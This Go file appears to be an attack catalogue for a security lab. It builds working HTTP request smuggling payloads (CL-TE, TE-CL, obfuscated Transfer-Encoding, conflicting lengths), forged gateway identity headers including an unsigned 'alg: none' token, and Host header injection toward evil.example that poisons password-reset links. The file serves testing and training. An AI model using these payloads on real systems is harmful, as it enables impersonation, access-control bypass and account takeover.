package lab

import (
	"fmt"
	"strings"
)

// messageAttacks are API8: messages that two servers read differently, and
// fields that only a front may write. The old service's careless parser is the
// second reader.
func messageAttacks() []Attack {
	return append(smugglingAttacks(), spoofAttacks()...)
}

// smugglingAttacks hide a second request, or a field, inside a message.
func smugglingAttacks() []Attack {
	var list []Attack
	// hidden is a request nobody may make; it must not reach the service.
	smuggle := func(name, title string, message func(a *attempt, svc *Service, hidden string) string) {
		list = append(list, Attack{Name: "smuggle-" + name, Title: title, Class: API8, Room: "gateway", run: func(a *attempt) (bool, error) {
			svc := a.shop.Service("legacy")
			hidden := a.head(svc, "GET /v0/users HTTP/1.1")
			m, answers := message(a, svc, hidden), 1
			if strings.Contains(m, hidden) {
				answers = 2
			}
			_, err := a.raw(svc, m, answers)
			return a.soon(func() bool { return a.did("zombie.version") }), err
		}})
	}
	const post = "POST /v0/feedback HTTP/1.1"
	const kind = "Content-Type: application/json"
	length := func(s string) string { return fmt.Sprintf("Content-Length: %d", len(s)) }
	smuggle("cl-te", "Content-Length and Transfer-Encoding: the length wins behind", func(a *attempt, svc *Service, hidden string) string {
		first := "0\r\n\r\n"
		return a.head(svc, post, kind, length(first), "Transfer-Encoding: chunked") + first + hidden
	})
	smuggle("te-cl", "Transfer-Encoding and Content-Length: the request hides in a chunk", func(a *attempt, svc *Service, hidden string) string {
		chunk := fmt.Sprintf("%x\r\n%s\r\n0\r\n\r\n", len(hidden), hidden)
		first := chunk[:strings.Index(chunk, "\r\n")+2]
		return a.head(svc, post, kind, length(first), "Transfer-Encoding: chunked") + chunk
	})
	smuggle("te-obscure", "a Transfer-Encoding that only some understand", func(a *attempt, svc *Service, hidden string) string {
		first := "0\r\n\r\n"
		return a.head(svc, post, kind, "Transfer-Encoding: xchunked") + first + hidden
	})
	smuggle("te-space", "white space before the colon of Transfer-Encoding", func(a *attempt, svc *Service, hidden string) string {
		return a.head(svc, post, kind, "Transfer-Encoding : chunked") + "0\r\n\r\n" + hidden
	})
	smuggle("te-twice", "two Transfer-Encoding fields", func(a *attempt, svc *Service, hidden string) string {
		return a.head(svc, post, kind, "Transfer-Encoding: identity", "Transfer-Encoding: chunked") + "0\r\n\r\n" + hidden
	})
	smuggle("te-tab", "a vertical tab in Transfer-Encoding", func(a *attempt, svc *Service, hidden string) string {
		return a.head(svc, post, kind, "Transfer-Encoding: \x0bchunked") + "0\r\n\r\n" + hidden
	})
	smuggle("cl-twice", "two lengths that differ", func(a *attempt, svc *Service, hidden string) string {
		return a.head(svc, post, kind, length("{}"+hidden), "Content-Length: 2") + "{}" + hidden
	})
	smuggle("cl-list", "a list of lengths", func(a *attempt, svc *Service, hidden string) string {
		return a.head(svc, post, kind, "Content-Length: 2, "+fmt.Sprint(2+len(hidden))) + "{}" + hidden
	})
	smuggle("cl-plus", "a length with a sign", func(a *attempt, svc *Service, hidden string) string {
		return a.head(svc, post, kind, "Content-Length: +2") + "{}" + hidden
	})
	smuggle("cl-space", "a second length with white space before its colon", func(a *attempt, svc *Service, hidden string) string {
		return a.head(svc, "GET /v0/status HTTP/1.1", length(hidden), "Content-Length : 0") + hidden
	})
	smuggle("chunk-lf", "a chunk's extension with a bare line end", func(a *attempt, svc *Service, hidden string) string {
		return a.head(svc, post, kind, "Transfer-Encoding: chunked") + "2;\n{}\r\n0\r\n\r\n" + hidden
	})
	smuggle("chunk-sign", "a chunk size with a sign", func(a *attempt, svc *Service, hidden string) string {
		return a.head(svc, post, kind, "Transfer-Encoding: chunked") + "+2\r\n{}\r\n0\r\n\r\n" + hidden
	})
	smuggle("bare-lf-head", "a head of bare line feeds with a request behind", func(a *attempt, svc *Service, hidden string) string {
		return strings.ReplaceAll(a.head(svc, post, kind, "Content-Length: 2"), "\r\n", "\n") + "{}" + hidden
	})
	smuggle("pipelined", "a second request on the same connection", func(a *attempt, svc *Service, hidden string) string {
		return a.head(svc, "GET /v0/status HTTP/1.1") + hidden
	})
	smuggle("request-line", "a request inside the request line", func(a *attempt, svc *Service, _ string) string {
		return a.head(svc, "GET /v0/users HTTP/1.1 /v0/status HTTP/1.1")
	})
	smuggle("target-tab", "a tab in the request line", func(a *attempt, svc *Service, _ string) string {
		return a.head(svc, "GET\t/v0/users\tHTTP/1.1")
	})
	return list
}

// spoofAttacks write fields in the gateway's name.
func spoofAttacks() []Attack {
	var list []Attack
	// hide sends a forged identity in a way that only the second reader sees.
	hide := func(name, title, field string) {
		list = append(list, Attack{Name: "spoof-" + name, Title: title, Class: API8, Room: "gateway", run: func(a *attempt) (bool, error) {
			svc := a.shop.Service("legacy")
			_, err := a.raw(svc, a.head(svc, "GET /v0/status HTTP/1.1", field), 1)
			return a.did("spoofed.identity"), err
		}})
	}
	const forged = "X-Gatehouse-Subject: " + spoofed
	hide("subject", "the gateway's own identity field", forged)
	hide("case", "the field in other letters", "x-GATEHOUSE-subject: "+spoofed)
	hide("space", "the field with white space before the colon", "X-Gatehouse-Subject : "+spoofed)
	hide("folded", "the field on a folded line", "X-Note: a\r\n "+forged)
	hide("bare-lf", "the field behind a bare line feed", "X-Note: a\n"+forged)
	hide("bare-cr", "the field behind a bare carriage return", "X-Note: a\r"+forged)
	hide("nul", "the field with a NUL behind the name", "X-Gatehouse-Subject: "+spoofed+"\x00x")
	hide("twice", "the field twice", forged+"\r\n"+forged)
	hide("certificate", "the field for a client certificate's name", "X-Client-Cert-Subject: "+spoofed)
	hide("underscore", "the field with underscores, which CGI-like servers read as hyphens", "X_Gatehouse_Subject: "+spoofed)
	identity := segment(map[string]any{"alg": "none"}) + "." + segment(map[string]any{"sub": spoofed}) + "."
	hide("identity-token", "the signed identity field, unsigned", "X-Gatehouse-Identity: "+identity)

	add := func(name, title string, run func(a *attempt) (bool, error)) {
		list = append(list, Attack{Name: name, Title: title, Class: API8, Room: "gateway", run: run})
	}
	add("spoof-victim", "the gateway's identity field in the victim's name", func(a *attempt) (bool, error) {
		a.ask("GET", "/sales/orders/"+a.me.OrderID, bearer(a.token), with("X-Gatehouse-Subject", a.victim.ID), with("X-Gatehouse-Roles", "admin"))
		for _, r := range a.shop.Receipts(a.run) {
			if r.Subject == a.victim.ID {
				return true, nil
			}
		}
		return false, nil
	})
	add("spoof-address", "an address of the shop's own network in X-Forwarded-For", func(a *attempt) (bool, error) {
		a.ask("GET", "/catalogue/items/tea", with("X-Forwarded-For", "10.1.2.3"), with("Forwarded", "for=10.1.2.3"))
		return a.did("internal.price"), nil
	})
	add("hop-by-hop", "the gateway's own fields named in Connection", func(a *attempt) (bool, error) {
		svc := a.shop.Service("users")
		_, err := a.raw(svc, a.head(svc, "GET /accounts/users/"+a.me.ID+" HTTP/1.1", a.auth(),
			"Connection: keep-alive, X-Gatehouse-Identity, X-Gatehouse-Subject, Authorization"), 1)
		for _, r := range a.shop.Receipts(a.run) {
			if r.Subject == "" { // the service takes it for a call from inside
				return true, nil
			}
		}
		return false, err
	})
	add("host-twice", "two Host fields", func(a *attempt) (bool, error) {
		svc := a.shop.Service("legacy")
		_, err := a.raw(svc, a.head(svc, "GET /v0/status HTTP/1.1", "Host: evil.example"), 1)
		return a.sawHost("evil.example"), err
	})
	add("host-absolute", "a target and a Host that differ", func(a *attempt) (bool, error) {
		svc := a.shop.Service("legacy")
		_, err := a.raw(svc, lines("GET http://"+a.host(svc)+"/v0/status HTTP/1.1", "Host: evil.example", RunHeader+": "+a.run, ""), 1)
		return a.sawHost("evil.example"), err
	})
	add("host-suffix", "a Host that begins like ours", func(a *attempt) (bool, error) {
		svc := a.shop.Service("catalogue")
		_, err := a.raw(svc, lines("GET /catalogue/items HTTP/1.1", "Host: "+PublicHost+".evil.example", RunHeader+": "+a.run, ""), 1)
		return a.received(), err
	})
	add("host-reset-mail", "a password reset whose link leads elsewhere", func(a *attempt) (bool, error) {
		svc := a.shop.Service("auth")
		b := `{"username":"` + a.victim.ID + `"}`
		_, err := a.raw(svc, a.head(svc, "POST /auth/password-reset HTTP/1.1", "X-Forwarded-Host: evil.example", "X-Host: evil.example",
			"Content-Type: application/json", fmt.Sprintf("Content-Length: %d", len(b)))+b, 1)
		return strings.Contains(a.shop.Mail(a.victim.ID), "evil.example"), err
	})
	return list
}

func (a *attempt) sawHost(host string) bool {
	for _, r := range a.shop.Receipts(a.run) {
		if r.Host == host {
			return true
		}
	}
	return false
}
